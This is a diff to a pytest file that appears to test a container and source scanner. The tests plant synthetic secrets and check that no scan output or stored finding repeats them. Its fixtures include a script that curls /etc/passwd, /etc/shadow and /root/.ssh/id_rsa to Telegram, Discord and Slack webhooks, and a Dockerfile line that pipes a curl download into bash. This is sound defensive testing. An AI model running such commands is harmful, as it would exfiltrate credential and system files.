@@ -151,7 +151,7 @@ def source_files(put: Secrets) -> dict[str, Any]:
     token = put("a GitHub token", github_token())
     stripe = put("a Stripe key in UTF-16", "sk_" + "live_" + made("stripe"))
     put("a private key", "".join(ssh_key().splitlines()[2:4]))
-    slack = put("a Slack token", "xoxb-" + "2345678901-2345678902-" + made("slack"))
+    slack = put("a Slack token", "xoxb-" + "4928301765-5039217648-" + made("slack"))
     return {
         "app/.env": f"AWS_ACCESS_KEY_ID={key_id}\nAWS_SECRET_ACCESS_KEY={key}\nDB_PASSWORD={put('an .env')}\n",
         "app/deploy.txt": f"token: {token}\n",
@@ -244,8 +244,8 @@ def installed_files(put: Secrets) -> dict[str, Any]:
         # What malware rules quote of a file must not be the secret in it.
         "usr/local/bin/report": file(
             "#!/bin/sh\ncurl -F f=@/etc/passwd https://api.telegram.org/"
-            f"bot{'2345678901'}:{put('a Telegram bot', 'AA' + made('telegram', 33))}/sendDocument\n"
-            f"curl -d @/root/.ssh/id_rsa https://discord.com/api/webhooks/{'234567890123456789'}/"
+            f"bot{'4928301765'}:{put('a Telegram bot', 'AA' + made('telegram', 33))}/sendDocument\n"
+            f"curl -d @/root/.ssh/id_rsa https://discord.com/api/webhooks/{'819274650391827465'}/"
             f"{put('a Discord webhook', made('discord', 68))}\n"
             f"curl -d @/etc/shadow https://hooks.slack.com/services/T{'0AB1CD2EF'}/B{'0AB1CD2EF'}/"
             f"{put('a Slack webhook', made('slack hook', 24))}\n", mode=0o755),
@@ -320,3 +320,107 @@ def ask_the_store(holdfast: Holdfast, target: str) -> Iterator[tuple[str, bytes]
     assert found
     for one in [one for one in found if one["kind"] == "secret"][:3]:
         yield from shown("findings show", holdfast("findings", "show", one["fingerprint"]))
+
+
+DOCKERFILE = """\
+FROM debian:12
+ARG NPM_TOKEN={argument}
+ENV API_PASSWORD={environment} OTHER="x"
+LABEL com.acme.token="{label}"
+RUN curl -u shop:{curl} https://acme.internal/x.sh | bash
+RUN git clone https://x:{clone}@git.acme.internal/shop.git && pip install --index-url https://u:{pip}@pypi.acme.internal/ a
+RUN echo "root:{chpasswd}" | chpasswd && mysql -u root -p{mysql} -e 'select 1'
+RUN PGPASSWORD={prefix} psql -h db && sshpass -p {sshpass} ssh host && echo '{github}' > /token
+RUN <<EOF
+export SECRET_KEY={heredoc}
+wget --password={wget} https://acme.internal/a
+docker login -u shop -p {login} registry.acme.internal
+EOF
+ADD https://u:{add}@acme.internal/a.tar.gz /
+COPY --from=registry.acme.internal/a:1 a b
+HEALTHCHECK CMD curl https://u:{health}@localhost/
+ONBUILD ENV TOKEN={onbuild}
+ENTRYPOINT ["serve", "--password={entrypoint}"]
+CMD serve --token {command}
+"""
+
+
+def dockerfile(put: Secrets) -> str:
+    names = [part.split("}")[0] for part in DOCKERFILE.split("{")[1:]]
+    tokens = {"github": github_token(), "label": "glpat-" + made("dockerfile label", 20)}
+    return DOCKERFILE.format(**{name: put(f"Dockerfile {name}", tokens.get(name, "")) for name in names})
+
+
+MALWARE_QUOTES = {"a mining pool", "a cron job"}
+APT_SOURCES = {"an apt source"}
+
+
+def everything_an_image_leads_to(tmp_path: Path, holdfast: Holdfast, put: Secrets) -> set[tuple[str, str]]:
+    """Where secrets of an image stand whole after all commands that quote one."""
+    target = f"oci:{secret_image(tmp_path, put)}"
+    texts = list(all_formats(holdfast, "image", target))
+    for command in (
+        ["scan", target, "--offline", "-f", "json"], ["scan", target, "--offline", "--only", "configuration"],
+        ["inspect", target], ["inspect", target, "-f", "json"], ["sbom", target], ["sbom", target, "-f", "json"],
+        ["vet", target, "--offline", "--waivers"], ["vet", target, "--offline", "-f", "json", "--policy", "strict"],
+    ):  # fmt: skip
+        outcome = holdfast(*command)
+        assert outcome.code in (0, 1, 3), (command, outcome.err)
+        texts += shown(" ".join(command[:1] + command[2:]), outcome)
+    texts += ask_the_store(holdfast, target)
+    return leaks(put.planted, iter([*texts, *everything_below(holdfast.home)]))
+
+
+@pytest.fixture(scope="module")
+def image_leaks(tmp_path_factory: pytest.TempPathFactory) -> set[tuple[str, str]]:
+    where = tmp_path_factory.mktemp("concealed")
+    (where / "home").mkdir()
+    return everything_an_image_leads_to(where, Holdfast(where / "home"), Secrets())
+
+
+def test_no_secret_of_an_image_stands_whole_anywhere(image_leaks: set[tuple[str, str]]) -> None:
+    assert {leak for leak in image_leaks if leak[0] not in MALWARE_QUOTES | APT_SOURCES} == set()
+
+
+@pytest.mark.xfail(strict=True, reason="malware/engine.py _matched quotes 60 bytes of the file, secrets among them")
+def test_what_malware_rules_quote_holds_no_secret(image_leaks: set[tuple[str, str]]) -> None:
+    assert {leak for leak in image_leaks if leak[0] in MALWARE_QUOTES} == set()
+
+
+@pytest.mark.xfail(strict=True, reason="apt sources are kept with their logins in the layer cache and in the store")
+def test_logins_in_apt_sources_are_not_kept(image_leaks: set[tuple[str, str]]) -> None:
+    assert {leak for leak in image_leaks if leak[0] in APT_SOURCES} == set()
+
+
+def test_no_secret_of_a_source_tree_or_dockerfile_stands_whole_anywhere(
+    tmp_path: Path, holdfast: Holdfast, put: Secrets
+) -> None:
+    context = tmp_path / "context"
+    for name, content in (source_files(put) | {"Dockerfile": dockerfile(put)}).items():
+        path = context / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_bytes(content if isinstance(content, bytes) else content.encode())
+    texts = list(all_formats(holdfast, "folder", f"dir:{context}"))
+    for target in (context, context / "Dockerfile"):
+        for form in ("text", "json"):
+            flags = ["-o", f"json={form}-{target.name}.json", "-o", f"html={form}-{target.name}.html"]
+            outcome = holdfast("vet", target, "--offline", "-f", form, "--policy", "strict", "--waivers", *flags)
+            assert outcome.code == 1
+            texts += shown(f"vet {target.name} {form}", outcome)
+    texts += shown("findings", holdfast("findings", "list", "-f", "json"))
+    assert leaks(put.planted, iter([*texts, *everything_below(holdfast.home)])) == set()
+
+
+def test_the_search_for_leaks_finds_one(tmp_path: Path, put: Secrets) -> None:
+    secret = put("a file", "q7+/" + made("control"))
+    ways = {
+        "plain": secret.encode(), "base64": base64.b64encode(f"x{secret}".encode()), "utf-16": secret.encode("utf-16"),
+        "url": urllib.parse.quote(secret, safe="").encode(), "gzip": b"xx" + gzip.compress(secret.encode()),
+        "zstd": b"head" + zstandard.compress(b"a" * 99 + secret.encode()),
+    }  # fmt: skip
+    for name, data in ways.items():
+        (tmp_path / name).write_bytes(data)
+    with sqlite3.connect(tmp_path / "sqlite") as connection:
+        connection.execute("create table t (a blob)")
+        connection.execute("insert into t values (?)", (zstandard.compress(secret.encode()),))
+    assert {name for _, name in leaks(put.planted, everything_below(tmp_path))} == {*ways, "sqlite"}
